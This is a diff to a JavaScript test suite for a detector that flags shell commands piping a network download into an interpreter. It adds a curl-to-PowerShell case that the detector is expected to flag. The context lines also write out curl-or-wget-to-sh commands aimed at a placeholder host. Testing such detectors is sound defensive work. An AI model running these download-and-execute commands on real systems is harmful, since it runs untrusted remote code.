@@ -59,6 +59,8 @@ describe("shell downloads and runs", () => {
     expect(piped("curl -s https://h.example.invalid/m.json | node scripts/merge.js")).toEqual([]);
     expect(piped("curl -s https://h.example.invalid/m.json | python3 -c 'import sys'")).toEqual([]);
     expect(piped("curl -s https://h.example.invalid/t.tgz | tar -xz -C bin")).toEqual([]);
+    expect(piped("curl -s https://h.example.invalid/l.txt | perl -ne 'print if /v/'")).toEqual([]);
+    expect(piped("curl -s https://h.example.invalid/i.ps1 | powershell -NoProfile -")).toEqual(["curl | powershell: https://h.example.invalid/i.ps1"]);
     expect(piped("curl -s https://h.example.invalid/i -o i.sh | sh")).toEqual([]);
     expect(piped("wget -O i.sh https://h.example.invalid/i | sh")).toEqual([]);
     expect(piped("cat install.sh | sh")).toEqual([]);
